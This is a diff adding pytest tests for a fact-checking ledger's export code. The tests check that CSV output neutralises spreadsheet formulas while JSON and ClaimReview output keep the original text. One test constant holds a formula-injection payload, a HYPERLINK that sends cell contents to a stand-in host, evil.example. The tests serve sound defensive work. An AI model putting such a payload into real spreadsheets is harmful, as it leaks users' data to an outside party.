@@ -1,0 +1,128 @@
+"""CSV a desk can open: a cell that would start a formula is neutralised, only in the CSV."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from sqlalchemy.engine import Engine
+
+from claimledger.db import session_scope
+from claimledger.export import export_records, spreadsheet_safe, write_csv
+from claimledger.models import Claim, Source
+from claimledger.records import ClaimFilter
+from claimledger.service import Ledger
+from helpers import Cli
+
+EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def _claim(
+    engine: Engine,
+    quote: str = EVIL,
+    *,
+    outlet: str | None = None,
+    title: str | None = None,
+    url: str | None = None,
+) -> int:
+    """One claim whose quote, speaker and assignee (and the given article fields) are `quote`-like."""
+    text = f"Intro. {quote} Outro."
+    with session_scope(engine) as s:
+        src = Source(
+            path="evil.txt",
+            content_hash=f"h-{quote}",
+            text=text,
+            outlet=outlet,
+            title=title,
+            url=url,
+        )
+        s.add(src)
+        s.flush()
+        start = text.index(quote)
+        claim = Claim(
+            source_id=src.id or 0,
+            quote=quote,
+            start=start,
+            end=start + len(quote),
+            speaker=EVIL,
+            assignee=EVIL,
+        )
+        s.add(claim)
+        s.flush()
+        return claim.id or 0
+
+
+def _csv(engine: Engine) -> list[dict[str, str]]:
+    out = io.StringIO(newline="")
+    with session_scope(engine) as s:
+        write_csv(export_records(session=s, flt=ClaimFilter()), out)
+    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+
+
+def test_a_formula_in_any_text_column_is_neutralised(engine: Engine) -> None:
+    _claim(engine, outlet=EVIL, title=EVIL, url=EVIL)
+    [row] = _csv(engine)
+    for column in ("quote", "source", "speaker", "source_title", "source_url", "assignee"):
+        assert row[column] == "'" + EVIL, column
+
+
+@pytest.mark.parametrize("start", DANGEROUS)
+def test_every_dangerous_first_character_gets_a_quote(engine: Engine, start: str) -> None:
+    quote = f"{start}1+2 said the mayor"
+    _claim(engine, quote)
+    [row] = _csv(engine)
+    assert row["quote"] == "'" + quote
+
+
+@pytest.mark.parametrize(
+    "text", ["Rent rose 3 + 4 percent", "write to desk@paper.example", "'quoted'"]
+)
+def test_ordinary_text_is_left_alone(text: str) -> None:
+    assert spreadsheet_safe(text) == text
+
+
+def test_numbers_stay_numbers(engine: Engine) -> None:
+    cid = _claim(engine)
+    [row] = _csv(engine)
+    assert (row["id"], row["evidence_count"]) == (str(cid), "0")
+
+
+def test_json_and_the_ledger_keep_the_words(db_path: Path, engine: Engine, cli: Cli) -> None:
+    cid = _claim(engine, outlet=EVIL)
+    result = cli("--db", str(db_path), "export", "--format", "json", "--state", "all")
+    [record] = json.loads(result.out)
+    assert (record["quote"], record["source"], record["speaker"]) == (EVIL, EVIL, EVIL)
+    ledger = Ledger.open(db_path, user="ann")
+    try:
+        assert ledger.claim(cid).quote == EVIL
+    finally:
+        ledger.close()
+
+
+def test_the_cli_writes_the_safe_csv(
+    db_path: Path, engine: Engine, cli: Cli, tmp_path: Path
+) -> None:
+    _claim(engine, outlet=EVIL)
+    out = tmp_path / "desk.csv"
+    result = cli("--db", str(db_path), "export", "-f", "csv", "--state", "all", "-o", str(out))
+    assert result.code == 0
+    with out.open(encoding="utf-8", newline="") as f:
+        [row] = list(csv.DictReader(f))
+    assert row["quote"] == row["source"] == "'" + EVIL
+
+
+def test_claimreview_keeps_the_words(engine: Engine) -> None:
+    from claimledger.export import Publisher, write_claimreview
+
+    _claim(engine)
+    out = io.StringIO()
+    with session_scope(engine) as s:
+        records = export_records(session=s, flt=ClaimFilter())
+        write_claimreview(records, out, Publisher(site_url="https://factcheck.example"))
+    [review] = json.loads(out.getvalue())
+    assert review["claimReviewed"] == EVIL
+    assert review["itemReviewed"]["author"]["name"] == EVIL
